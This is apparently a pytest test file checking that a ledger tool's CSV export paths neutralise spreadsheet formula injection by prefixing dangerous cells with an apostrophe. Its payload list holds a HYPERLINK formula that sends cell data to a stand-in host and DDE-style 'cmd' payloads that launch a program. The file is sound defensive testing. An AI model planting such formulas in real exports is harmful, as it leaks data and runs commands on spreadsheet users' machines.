"""No export lets a spreadsheet run ledger text (issue 10, item 12): every
CSV cell whose text starts with =, +, -, @, a tab or a carriage return is
written with a leading apostrophe, in every path that writes CSV.
Every record here is SYNTHETIC."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import record

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0"]
# Every way the tool writes CSV: (arguments, the file written, or None for stdout).
CSV_PATHS: list[tuple[list[str], str | None]] = [
    (["list", "--format", "csv"], None),
    (["export", "--format", "csv"], None),
    (["export", "--format", "csv", "--excel"], None),
    (["export", "-o", "out.csv"], "out.csv"),
    (["export", "-o", "out.csv", "--excel"], "out.csv"),
    (["summary", "--by", "actor", "--format", "csv"], None),
    (["summary", "--by", "actor", "--by", "tactic", "--format", "csv"], None),
]


def _cells(result: Result, out: str | None, tmp_path: Path) -> list[list[str]]:
    assert result.exit_code == 0, result.stderr
    text = (tmp_path / out).read_text(encoding="utf-8-sig") if out else result.stdout.removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def _ledger(write: Callable[..., Path], value: str) -> None:
    quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
    write(record(place=quoted, target=quoted, claimed_by=f"[{quoted}]", notes=quoted))


@pytest.mark.parametrize(("args", "out"), CSV_PATHS, ids=lambda v: " ".join(v) if isinstance(v, list) else str(v))
@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_neutralised(args: list[str], out: str | None, payload: str, write: Callable[..., Path],
                                     run: Callable[..., Result], tmp_path: Path) -> None:
    _ledger(write, payload)
    rows = _cells(run("--no-cache", "-f", "incidents.yaml", *args), out, tmp_path)
    cells = [c for row in rows for c in row]
    assert "'" + payload in cells  # written, as text
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_tab_and_carriage_return_starts(write: Callable[..., Path], run: Callable[..., Result]) -> None:
    # The loader refuses a text that starts with a tab or CR (control-character,
    # yaml-syntax), so no ledger can bring one to a CSV; the writer guards them too.
    from iraqsec.rendering.plain import table_to_csv

    write(record(summary='"\\t=1+1"'))
    assert "[control-character]" in run("--no-cache", "check", "incidents.yaml").stdout
    assert table_to_csv(["a", "b", "c"], [["\t=1+1", "\r=1+1", 5]]) == 'a,b,c\r\n\'\t=1+1,"\'\r=1+1",5\r\n'


def test_numbers_and_ordinary_text_are_unchanged(write: Callable[..., Path], run: Callable[..., Result],
                                                 tmp_path: Path) -> None:
    write(record(killed="3", wounded="12", coordinates="[33.3, 44.4]"))
    rows = _cells(run("--no-cache", "-f", "incidents.yaml", "export", "--format", "csv"), None, tmp_path)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["killed"], row["wounded"], row["latitude"], row["place"]) == ("3", "12", "33.3",
                                                                              "Baghdad International Airport")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(start=st.sampled_from(["=", "+", "-", "@", "a", "1", " x"]),
       rest=st.text(alphabet=st.characters(codec="utf-8", min_codepoint=0x20, max_codepoint=0x2ff,
                                           exclude_categories=("Cc",)), max_size=30),
       path=st.sampled_from(CSV_PATHS))
def test_no_cell_starts_a_formula(start: str, rest: str, path: tuple[list[str], str | None],
                                  write: Callable[..., Path], run: Callable[..., Result], tmp_path: Path) -> None:
    value = " ".join((start + rest).split()) or "x"  # one line, as a plain field holds it
    _ledger(write, value)
    result = run("--no-cache", "-f", "incidents.yaml", *path[0])
    assert result.exit_code == 0, result.stderr
    cells = [c for row in _cells(result, path[1], tmp_path) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    expected = "'" + value if value.startswith(("=", "+", "-", "@")) else value
    assert expected in cells
